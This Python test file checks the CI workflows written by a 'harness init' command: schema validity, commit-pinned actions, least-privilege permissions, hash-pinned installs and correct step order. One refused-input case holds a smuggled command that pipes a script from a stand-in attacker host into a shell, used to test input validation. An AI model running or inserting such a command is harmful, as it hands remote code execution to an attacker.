"""The workflows that `harness init --ci github` writes: of the published schema, and made of steps that work."""

import hashlib
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from harness.cli.main import harness
from harness.errors import UsageError
from harness.plugins import DISTRIBUTION
from tests.drift.issues.github_server import REPO, TOKEN, GithubServer

BIN = Path(sys.executable).parent
PULL_REQUEST, NIGHTLY = ".github/workflows/harness-pull-request.yml", ".github/workflows/harness-nightly.yml"
MODEL = "model: {prices: {gpt-x: {input_usd_per_mtok: 1, output_usd_per_mtok: 2}}}\n"
SERVERS = 'secrets: [WEATHER_KEY]\nservers: {weather: {base_url: "http://127.0.0.1:8000"}}\n'


def initialised(folder: Path, *options: str) -> str:
    done = CliRunner().invoke(harness, ["init", str(folder), "--ci", "github", *options])
    assert done.exception is None, done.output
    return done.output


def workflow(path: Path) -> dict[str, Any]:
    said = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(said, dict)
    return said


def steps(path: Path) -> list[dict[str, Any]]:
    return [step for job in workflow(path)["jobs"].values() for step in job["steps"]]


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project inside a repository, with a suite that has a model, a server and a secret; no test changes it."""
    folder = tmp_path_factory.mktemp("outside")
    (folder / ".git").mkdir()
    initialised(folder / "evals")
    suite = folder / "evals/suites/hello/suite.yaml"
    suite.write_text(suite.read_text() + MODEL + SERVERS)
    (folder / PULL_REQUEST).unlink()
    initialised(folder / "evals")
    return folder


def test_they_are_of_the_published_schema(outside: Path) -> None:
    checked = subprocess.run(
        [BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", PULL_REQUEST, NIGHTLY],
        cwd=outside, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert 0 == checked.returncode, checked.stdout


@pytest.mark.parametrize("name", [PULL_REQUEST, NIGHTLY])
def test_they_fit_the_suites_of_the_project(outside: Path, name: str) -> None:
    jobs = workflow(outside / name)["jobs"].values()
    matrices = [job["strategy"]["matrix"]["include"] for job in jobs if "strategy" in job]
    assert [[{"suite": "hello", "options": "--live model --budget usd=2"}]] == matrices
    assert {"evals"} == {job["env"]["HARNESS_PROJECT"] for job in jobs}


@pytest.mark.parametrize(
    ("name", "verb", "keys"),
    [(PULL_REQUEST, "harness run", ["OPENAI_API_KEY"]), (NIGHTLY, "harness drift", ["OPENAI_API_KEY", "WEATHER_KEY"])],
)
def test_only_the_step_that_reaches_real_services_is_given_the_keys_of_its_modes(
    outside: Path, name: str, verb: str, keys: list[str]
) -> None:
    said = workflow(outside / name)
    holder, *posting = [step for step in steps(outside / name) if "secrets." in str(step)]
    assert holder["run"].startswith(verb)
    assert [] == posting
    assert {key: f"${{{{ secrets.{key} }}}}" for key in keys} == holder["env"]
    assert "secrets." not in str([job.get("env") for job in said["jobs"].values()])


def test_no_job_that_runs_the_code_of_a_pull_request_may_write(outside: Path) -> None:
    said = workflow(outside / PULL_REQUEST)
    assert {} == said["permissions"]
    assert ["pull_request"] == list(said[True])  # YAML 1.1 reads the key `on` so; never pull_request_target
    evaluate, comment = said["jobs"]["evaluate"], said["jobs"]["comment"]
    assert {"contents": "read"} == evaluate["permissions"]
    assert "github.token" not in str(evaluate)
    assert {"contents": "read", "pull-requests": "write"} == comment["permissions"]
    (checkout,) = [step for step in comment["steps"] if "checkout" in step.get("uses", "")]
    assert "${{ github.event.pull_request.base.sha }}" == checkout["with"]["ref"]


@pytest.mark.parametrize("name", [PULL_REQUEST, NIGHTLY])
def test_actions_are_pinned_by_commit_and_nothing_names_a_registry(outside: Path, name: str) -> None:
    used = [line.strip(" -") for line in (outside / name).read_text().splitlines() if "uses:" in line]
    assert used
    assert [] == [one for one in used if not re.fullmatch(r"uses: actions/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", one)]
    checkouts = [step for step in steps(outside / name) if "checkout" in step.get("uses", "")]
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)
    assert "http" not in (outside / name).read_text()
    assert "@@" not in (outside / name).read_text()


@pytest.mark.slow
def test_every_package_is_installed_by_its_hash_the_harness_too(outside: Path, tmp_path: Path) -> None:
    requirements = outside / ".github/harness/requirements.txt"
    own = requirements.read_text().splitlines()[-1]
    place, digest = own.split(" --hash=sha256:")
    assert hashlib.sha256((outside / place).read_bytes()).hexdigest() == digest
    installs = {
        step["run"].strip() for name in (PULL_REQUEST, NIGHTLY) for step in steps(outside / name) if "pip" in str(step)
    }
    assert {"python -m pip install --no-deps --require-hashes -r .github/harness/requirements.txt"} == installs
    (tmp_path / "own.txt").write_text(own)
    pip = [sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "--no-index", "--require-hashes"]
    subprocess.run([*pip, "--target", tmp_path / "site", "-r", tmp_path / "own.txt"], cwd=outside, check=True)
    printed = subprocess.run(
        [sys.executable, "-P", "-c", "import harness.cli.init as ci; print(ci.__file__)"],
        env={**os.environ, "PYTHONPATH": str(tmp_path / "site")}, cwd=tmp_path, capture_output=True, text=True,
    )  # fmt: skip
    assert str(tmp_path / "site/harness/cli/init.py") == printed.stdout.strip(), printed.stderr
    assert (tmp_path / "site/harness/cli/template_github" / Path(PULL_REQUEST).name).is_file()


COMMIT = "git+https://git.example.com/tools/harness@" + "0123456789" * 4
DIGEST = "ab" * 32


def test_another_place_can_be_named(tmp_path: Path) -> None:
    initialised(tmp_path / "one", "--install", COMMIT)
    assert f'"trial-harness @ {COMMIT}"' in (tmp_path / "one" / PULL_REQUEST).read_text()
    assert [Path("requirements.txt")] == [
        path.relative_to(path.parent) for path in (tmp_path / "one/.github/harness").iterdir()
    ]
    initialised(tmp_path / "two", "--install", f"https://files.example.com/trial_harness.whl#sha256={DIGEST}")
    last = (tmp_path / "two/.github/harness/requirements.txt").read_text().splitlines()[-1]
    assert f"trial-harness @ https://files.example.com/trial_harness.whl --hash=sha256:{DIGEST}" == last


@pytest.mark.parametrize(
    "spec",
    [
        DISTRIBUTION,
        "git+https://git.example.com/tools/harness@main",
        "https://files.example.com/trial_harness.whl",
        f'{COMMIT}"; curl evil.example.com | sh; "',
    ],
)
def test_what_no_hash_holds_is_refused(tmp_path: Path, spec: str) -> None:
    done = CliRunner().invoke(harness, ["init", str(tmp_path), "--ci", "github", "--install", spec])
    assert isinstance(done.exception, UsageError)
    assert "--install" in done.exception.message
    assert [] == list(tmp_path.glob(".github/**/*"))


@pytest.mark.parametrize("service", ["github", "gitlab", "shell"])
def test_a_second_suite_is_added_and_what_cannot_work_there_is_told(tmp_path: Path, service: str) -> None:
    def typed() -> str:
        done = CliRunner().invoke(harness, ["init", str(tmp_path), "--ci", service])
        assert done.exception is None, done.output
        return done.output

    typed()
    first = tmp_path / "suites/hello"
    shutil.copytree(first, tmp_path / "suites/other")
    (tmp_path / "suites/other/suite.yaml").write_text(
        (first / "suite.yaml").read_text()
        + MODEL.replace(
            "{prices",
            "{double: true, providers: {openai: {base_url: 'http://localhost:9/v1', api_key: OPENAI_API_KEY}}, prices",
        )
        + SERVERS
    )
    said = typed()
    assert "exists already: added other" in said
    assert "other: server weather: http://127.0.0.1:8000 is this machine: `command` in suite.yaml starts it" in said
    assert "other: model openai: http://localhost:9/v1 is this machine: start it in the workflow" in said
    assert "other: model: it is a double" in said
    assert ("OPENAI_API_KEY: ${{ secrets.OPENAI_API_KEY }}" in said) == (service == "github")
    path = next(tmp_path / one for one in (PULL_REQUEST, ".gitlab/harness.yml", "ci/harness-pull-request.sh")
                if (tmp_path / one).exists())  # fmt: skip
    lines = path.read_text().splitlines()
    number = next(number for number, line in enumerate(lines) if "hello" in line)
    assert lines[number].replace("hello", "other").replace('""', '"--live model --budget usd=2"') == lines[number + 1]
    assert ": added" not in typed()


@pytest.mark.slow
def test_the_shell_script_works_and_exits_with_the_worst_of_its_suites(tmp_path: Path) -> None:
    CliRunner().invoke(harness, ["init", str(tmp_path), "--ci", "shell"])
    script = tmp_path / "ci/harness-pull-request.sh"
    script.write_text(script.read_text().replace('suite hello ""', 'suite hello "--sandbox local"\nsuite nowhere ""'))
    (tmp_path / ".harness-venv/bin").mkdir(parents=True)
    own = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "PIP_NO_INDEX": "1", "PIP_DRY_RUN": "1"}
    subprocess.run(
        [BIN / "harness", "run", "hello", "--sandbox", "local", "--run-name", "first"], cwd=tmp_path, check=True
    )
    subprocess.run([BIN / "harness", "baseline", "first"], cwd=tmp_path, check=True)
    text = re.sub("^python3? -m.*$", "", script.read_text(), flags=re.MULTILINE)
    script.write_text(text)
    done = subprocess.run(["sh", script], cwd="/", env=own, capture_output=True, text=True, timeout=300)
    assert 2 == done.returncode, done.stdout + done.stderr
    assert {"comment.md", "junit.xml", "report.html"} == {path.name for path in (tmp_path / "report/hello").iterdir()}


def test_a_project_without_tools_gets_no_nightly_run_and_nothing_is_overwritten(tmp_path: Path) -> None:
    first = initialised(tmp_path)
    assert "harness-nightly.yml: not written" in first
    (tmp_path / PULL_REQUEST).write_text("mine")
    assert "exists already" in initialised(tmp_path)
    assert "mine" == (tmp_path / PULL_REQUEST).read_text()


class Runner:
    """Runs a workflow's `run` lines as GitHub does, in their order, in one folder."""

    def __init__(self, folder: Path, server: GithubServer, values: dict[str, str]) -> None:
        self.folder = folder
        self._values = {
            "github.token": TOKEN, "github.event.pull_request.number": "1", "github.run_id": "7",
            "github.server_url": server.url, "github.repository": REPO, **values,
        }  # fmt: skip
        self._environment = {
            **{name: value for name, value in os.environ.items() if not name.startswith("GITHUB_")},
            "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
            "PIP_NO_INDEX": "1",  # what is installed already is all that there is
            "PIP_DRY_RUN": "1",
            "GITHUB_API_URL": server.url,
            "GITHUB_REPOSITORY": REPO,
            "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
        }

    def lines(self, name: str) -> Iterator[tuple[str, dict[str, str]]]:
        for job in workflow(self.folder / name)["jobs"].values():
            for step in job["steps"]:
                if "run" in step:
                    own = {**job.get("env", {}), **step.get("env", {})}
                    yield self._said(step["run"]), {key: self._said(value) for key, value in own.items()}
                elif "download-artifact" in step["uses"]:
                    self._fetched(step["with"]["path"])

    def run(self, name: str, only: str = "") -> list[str]:
        """What each step printed; every one must end with 0. `only`: those whose line holds this."""
        return [self._run(line, own) for line, own in self.lines(name) if only in line]

    def _fetched(self, place: str) -> None:
        """What the upload of the job before kept, in a folder of the artifact's name."""
        own = self.folder / place / f"harness-{self._values['matrix.suite']}"
        own.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(self.folder / "comment.md", own / "comment.md")

    def _run(self, line: str, own: dict[str, str]) -> str:
        done = subprocess.run(
            ["bash", "-e", "-c", line], cwd=self.folder, env={**self._environment, **own},
            capture_output=True, text=True, timeout=300,
        )  # fmt: skip
        assert 0 == done.returncode, f"{line}\n{done.stdout}\n{done.stderr}"
        return done.stdout

    def _said(self, text: str) -> str:
        return re.sub(r"\$\{\{ (.*?) \}\}", lambda found: self._values[found[1]], str(text))


def git(folder: Path, *arguments: str) -> None:
    who = ["-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run(["git", *who, *arguments], cwd=folder, check=True, capture_output=True)


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.usefixtures("base_image")
def test_their_steps_work_in_their_order(project: Path, tmp_path: Path) -> None:
    folder = tmp_path / "repository"
    for part in ("suites", "images", "snapshots", "cassettes"):
        shutil.copytree(project / part / "drive_thru", folder / part / "drive_thru")
    (folder / ".gitignore").write_text("runs/\n.harness/\n")
    git(folder, "init", "--quiet")
    initialised(folder)
    with GithubServer() as server:
        server.route("POST", f"/repos/{REPO}/issues", {"title": "the pull request"})
        runner = Runner(
            folder, server, {"matrix.suite": "drive_thru", "matrix.options": "--case order-correctness-000"}
        )
        for command in (
            "run drive_thru --case order-correctness-000 --run-name first",
            "baseline first --allow-unmeasured 24",
        ):
            subprocess.run(
                [BIN / "harness", *command.split()], cwd=folder, check=True, capture_output=True, timeout=300
            )
        git(folder, "add", "--all")
        git(folder, "commit", "--quiet", "--message", "with a baseline")
        printed = runner.run(PULL_REQUEST)
        assert "gate baseline: holds" in "".join(printed)
        assert "<testsuites" in (folder / "junit.xml").read_text()
        assert "replay fidelity 100 %" in (folder / "summary.md").read_text()
        runner.run(PULL_REQUEST, only="issue comment")
        assert 1 == len(server.comments[1])
        printed = runner.run(NIGHTLY)
        assert "nightly: nothing to file (tracker github)" in "".join(printed)
        assert 1 == len(server.issues)
